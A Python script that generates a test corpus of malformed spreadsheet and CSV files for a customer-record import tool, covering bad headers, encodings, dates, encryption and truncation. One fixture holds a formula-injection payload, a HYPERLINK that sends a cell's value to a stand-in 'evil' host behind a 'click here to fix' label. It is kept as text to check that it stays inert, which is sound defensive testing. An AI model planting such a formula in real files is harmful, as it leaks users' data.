"""Regenerate the bad-input corpus in this folder: ``python tests/data/bad/make_corpus.py``.

Each file is one way reps' files go wrong in practice; ``tests/test_bad_inputs.py`` holds what
the tool must say about each. The files are committed so the tests read exactly these bytes;
this script documents how each was made. ``legacy.xls`` needs LibreOffice (``soffice``).
"""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
from msoffcrypto.format.ooxml import OOXMLFile

HERE = Path(__file__).resolve().parent
HEAD = ["业务员", "录入日期", "客户姓名", "客户类型", "手机", "邮箱", "公司名称"]
ROW = ["张三", dt.date(2024, 3, 15), "王伟", "个人", "13812345678", "wang@example.com", None]


def _book(rows: list[list[object]], sheet: str = "客户信息") -> openpyxl.Workbook:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet
    for r in rows:
        ws.append(r)
    return wb


def _save(wb: openpyxl.Workbook, name: str) -> Path:
    path = HERE / name
    wb.save(path)
    _pin(path)
    return path


def _pin(path: Path) -> None:
    """Fixed timestamps inside the zip so regenerating gives the same bytes."""
    with zipfile.ZipFile(path) as zf:
        parts = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in parts:
            data = re.sub(rb"<dcterms:(created|modified)[^>]*>[^<]*</dcterms:\1>", b"", data)
            info.date_time = (2024, 1, 1, 0, 0, 0)
            zf.writestr(info, data)


def _patch(path: Path, member: str, fn: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(path) as zf:
        parts = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in parts:
            zf.writestr(info, fn(data) if info.filename == member else data)


def build() -> None:
    _save(_book([["月份", "销量", "备注"], ["1月", 100, None]]), "wrong_headers.xlsx")
    _save(
        _book([["客户姓名", "手机", "邮箱"], ["王伟", "13812345678", "a@b.cn"]]),
        "missing_required.xlsx",
    )
    _save(_book([[*HEAD, "手机号码"], [*ROW, "13900000000"]]), "duplicate_headers.xlsx")
    wb = _book([HEAD, ROW])
    wb.active.merge_cells("A1:B1")  # type: ignore[union-attr]
    _save(wb, "merged_header.xlsx")
    wb = _book([HEAD, ROW, [None, *ROW[1:]], [None, *ROW[1:]]])
    wb.active.merge_cells("A2:A4")  # type: ignore[union-attr]
    _save(wb, "merged_data.xlsx")
    _save(_book([HEAD, [*ROW[:4], "=E1", *ROW[5:]]]), "formula_no_value.xlsx")
    path = _save(_book([HEAD, [*ROW[:6], "=1+1"]]), "formula_cached.xlsx")
    _patch(
        path,
        "xl/worksheets/sheet1.xml",
        lambda b: re.sub(rb"<f>1\+1</f><v\s*/?>(</v>)?", b"<f>1+1</f><v>2</v>", b),
    )
    wb = _book([HEAD, ROW, ROW])
    wb.active["E2"] = "#N/A"  # type: ignore[index]
    wb.active["B3"] = "#VALUE!"  # type: ignore[index]
    _save(wb, "error_values.xlsx")
    _save(
        _book(
            [
                HEAD,
                [*ROW[:1], "2024/3/5", *ROW[2:]],
                [*ROW[:1], "2024年3月5日", *ROW[2:]],
                [*ROW[:1], "3月5号", *ROW[2:]],
                [*ROW[:1], "2023-02-29", *ROW[2:]],
            ]
        ),
        "dates_as_text.xlsx",
    )
    _save(
        _book([HEAD, [*ROW[:1], 45366, *ROW[2:]], [*ROW[:1], 60, *ROW[2:]]]), "excel_serials.xlsx"
    )
    _save(
        _book(
            [
                HEAD,
                [
                    "张三",
                    "2024-03-15",
                    "王伟😀",
                    "个人",
                    "１３８１２３４５６７８",
                    "ＷＡＮＧ＠ＥＸＡＭＰＬＥ．ＣＯＭ",
                    None,
                ],
                ["张三", "2024-03-15", "李娜", "个人", "138😀1234", None, None],
            ]
        ),
        "fullwidth_emoji.xlsx",
    )
    wb = _book([HEAD, ROW])
    wb.active["A1048576"] = "误输入"  # type: ignore[index]
    _save(wb, "max_rows.xlsx")
    wb = _book([["封面"], ["2024 客户登记"]], sheet="封面")
    ws = wb.create_sheet("客户信息")
    ws.sheet_state = "hidden"
    ws.append(HEAD)
    ws.append(ROW)
    _save(wb, "hidden_sheet.xlsx")
    with tempfile.TemporaryDirectory() as d:
        plain = _save(_book([HEAD, ROW]), "_plain.xlsx")
        with open(plain, "rb") as src, open(HERE / "password.xlsx", "wb") as out:
            OOXMLFile(src).encrypt("123456", out)
        plain.unlink()
        src_xlsx = Path(d) / "legacy.xlsx"
        _book([HEAD, ROW]).save(src_xlsx)
        soffice = shutil.which("soffice")
        if soffice:
            subprocess.run(
                [
                    soffice,
                    f"-env:UserInstallation=file://{d}/profile",
                    "--headless",
                    "--convert-to",
                    "xls",
                    "--outdir",
                    str(HERE),
                    str(src_xlsx),
                ],
                check=True,
                capture_output=True,
                timeout=180,
            )
    good = _save(_book([HEAD, ROW]), "_good.xlsx")
    (HERE / "truncated.xlsx").write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2])
    good.unlink()
    (HERE / "empty_file.xlsx").write_bytes(b"")
    _save(openpyxl.Workbook(), "empty_workbook.xlsx")
    _save(_book([HEAD]), "header_only.xlsx")
    csv_text = ",".join(HEAD) + "\n张三,2024-03-15,王伟,个人,13812345678,wang@example.com,\n"
    (HERE / "csv_named.xlsx").write_text(csv_text, encoding="utf-8")
    (HERE / "gbk.csv").write_bytes(csv_text.encode("gbk"))
    (HERE / "bom.csv").write_bytes(csv_text.encode("utf-8-sig"))
    (HERE / "semicolon.csv").write_text(csv_text.replace(",", ";"), encoding="utf-8")
    (HERE / "serials_as_text.csv").write_text(
        csv_text.replace("2024-03-15", "45366"), encoding="utf-8"
    )
    (HERE / "not_a_workbook.xlsx").write_bytes(bytes(range(256)) * 4)
    (HERE / "notes.txt").write_text("客户名单在另一个文件里", encoding="utf-8")
    locked = _save(_book([HEAD, ROW]), "open_in_excel.xlsx")
    (HERE / f"~${locked.name}").write_bytes(b"\x06zhangsan" + b"\x00" * 40)
    _save(_book([["2024 年客户登记表"], [], HEAD, ROW]), "title_rows.xlsx")
    _save(
        _book([HEAD, [*ROW[:4], 13812345678, *ROW[5:]], [*ROW[:4], 1088886666, *ROW[5:]]]),
        "phones_as_numbers.xlsx",
    )
    _save(
        _book([[h if i % 2 else f" {h.upper()} " for i, h in enumerate(HEAD)], ROW]),
        "messy_headers.xlsx",
    )
    _issue_11(csv_text)


def _issue_11(csv_text: str) -> None:
    """Cases of issue 11 (hostile and clumsy input): one file per item."""
    far = _book([HEAD, ROW])
    far.active["XFD1048576"] = "x"  # type: ignore[index]
    _save(far, "far_cell.xlsx")  # item 4: calamine would ask for 512 GiB
    _save(_book([HEAD, ROW]), "dimension_lie.xlsx")
    _patch(
        HERE / "dimension_lie.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda x: re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:ZZ1048576"/>', x),
    )
    evil = _book([HEAD, [*ROW[:6], '=HYPERLINK("http://evil/?d="&H2,"点此修复")']])
    evil.active["G2"].data_type = "s"  # type: ignore[index]  # typed text, not a formula
    _save(evil, "formula_text.xlsx")  # item 5: must stay text in every output
    _save(_book([HEAD, ROW, [ROW[0], ROW[1], None, *ROW[3:]]]), "required_blank.xlsx")  # item 1
    (HERE / "mac.csv").write_bytes(csv_text.replace("\n", "\r").encode("utf-8"))  # item 8
    (HERE / "utf16_no_bom.csv").write_bytes(csv_text.encode("utf-16-le"))  # item 8
    long = csv_text.rstrip("\n") + "长" * 40_000 + "\n"  # item 11: over Excel's 32,767
    (HERE / "long_cell.csv").write_text(long, encoding="utf-8")


if __name__ == "__main__":
    build()
